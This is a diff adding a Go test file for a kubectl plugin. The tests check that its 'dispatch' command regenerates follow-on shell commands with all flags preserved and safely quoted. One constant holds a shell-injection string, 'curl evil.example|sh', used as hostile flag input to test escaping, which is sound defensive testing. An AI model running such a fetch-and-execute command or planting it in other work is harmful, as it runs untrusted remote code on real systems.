@@ -1,0 +1,106 @@
+package cmd
+
+import (
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/spf13/cobra"
+	"github.com/spf13/pflag"
+	"gotest.tools/v3/assert"
+
+	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/fleet"
+)
+
+// hostile is what somebody may have to say who thinks of shells.
+const hostile = "-x; curl evil.example|sh #`$(x)`'\"\n,y=z"
+
+// sample is another value of a flag than its default.
+func sample(flag *pflag.Flag) []string {
+	switch flag.Name {
+	case "dry-run":
+		return []string{"server"}
+	case "on-interrupt":
+		return []string{"delete"}
+	case "v":
+		return []string{"3"}
+	}
+	switch flag.Value.Type() {
+	case "bool":
+		return []string{"true"}
+	case "duration":
+		return []string{"-7m30s"}
+	case "stringArray":
+		return []string{hostile, "--context", ""}
+	case "stringSlice":
+		return []string{`"` + strings.ReplaceAll(hostile, `"`, `""`) + `",b`, "c"}
+	case "stringToString":
+		return []string{"b=-c", "a.example/x=", `"k=` + strings.ReplaceAll(hostile, `"`, `""`) + `"`}
+	}
+	return []string{hostile}
+}
+
+// given is a command of a new tree, with flags as a user would have given them.
+func given(t *testing.T, name string, args ...string) *cobra.Command {
+	t.Helper()
+	root, _ := newRootCommand(Environment{})
+	called, rest, err := root.Find(append([]string{name}, args...))
+	assert.NilError(t, err)
+	assert.Equal(t, called.Name(), name)
+	assert.NilError(t, called.ParseFlags(rest), "%q", args)
+	return called
+}
+
+// TestGoOnWithAllFlags: whatever flag dispatch has, the command that goes on has it too,
+// with the value that it had.
+func TestGoOnWithAllFlags(t *testing.T) {
+	var names []string
+	given(t, "dispatch").Flags().VisitAll(func(flag *pflag.Flag) { names = append(names, flag.Name) })
+	assert.Assert(t, len(names) > 40, "%q", names)
+	for _, name := range names {
+		t.Run(name, func(t *testing.T) {
+			if name == "help" {
+				return
+			}
+			before := given(t, "dispatch")
+			// That of logs is the process's own.
+			t.Cleanup(func() { assert.NilError(t, before.Flag("v").Value.Set("0")) })
+			for _, value := range sample(before.Flag(name)) {
+				assert.NilError(t, before.Flags().Set(name, value), "%q", value)
+			}
+			o := &dispatchOptions{flags: &dispatchFlags{}, given: before.Flags(), origin: fleet.Context{Name: "mana ger"}, worker: fleet.Context{Name: "-w"}}
+			again := o.goOn("ml", []string{"train", "jobset/x"})
+			words := shelltest.Words(t, again.Shell())
+			assert.DeepEqual(t, words, again.Words())
+			assert.DeepEqual(t, words[:3], []string{"kubectl", "jobs-managedby", "dispatch"})
+
+			after := given(t, "dispatch", words[3:]...)
+			assert.DeepEqual(t, after.Flags().Args(), []string{"train", "jobset/x"})
+			assert.Equal(t, after.Flag("namespace").Value.String()+" "+after.Flag("context").Value.String()+" "+after.Flag("to").Value.String(), "ml mana ger -w")
+			switch flag := after.Flag(name); {
+			case slices.Contains([]string{"namespace", "context", "to"}, name):
+			case slices.Contains(toldOtherwise(), name):
+				assert.Assert(t, !flag.Changed)
+			case name == "token":
+				assert.Assert(t, flag.Value.String() == "TOKEN" && !strings.Contains(again.Shell(), "evil"), again.Shell())
+			default:
+				assert.Assert(t, flag.Changed && before.Flag(name).Changed)
+				assert.DeepEqual(t, valuesOf(after.Flags(), flag), valuesOf(before.Flags(), before.Flag(name)))
+			}
+
+			end := shelltest.Words(t, o.endIt("ml", []string{"train"}).Shell())
+			given(t, "cancel", end[3:]...)
+		})
+	}
+}
+
+// TestGoOn: what is not given is not told.
+func TestGoOn(t *testing.T) {
+	was := given(t, "dispatch", "-f", "train.yaml", "--to", "worker-1", "--mirror-ttl", "1h", "--strip-labels", "a,b", "--set-labels", "q=x,p=y",
+		"--namespace-to", "batch", "--with-secret=s", "--with-secret=t", "--as-multikueue", "--as", "jo", "--detach-after-start=false", "--with-dependencies")
+	o := &dispatchOptions{flags: &dispatchFlags{}, given: was.Flags(), origin: fleet.Context{Name: "management"}, worker: fleet.Context{Name: "worker-1"}}
+	assert.Equal(t, o.goOn("ml", []string{"train"}).Shell(), "kubectl jobs-managedby dispatch train -n ml --context management --to worker-1 "+
+		"--as jo --as-multikueue --mirror-ttl 1h0m0s --namespace-to batch --set-labels p=y,q=x --strip-labels a,b --with-dependencies --with-secret s --with-secret t")
+	assert.Equal(t, o.endIt("ml", []string{"train"}).Shell(), "kubectl jobs-managedby cancel train -n ml --context management --as jo --as-multikueue")
+}
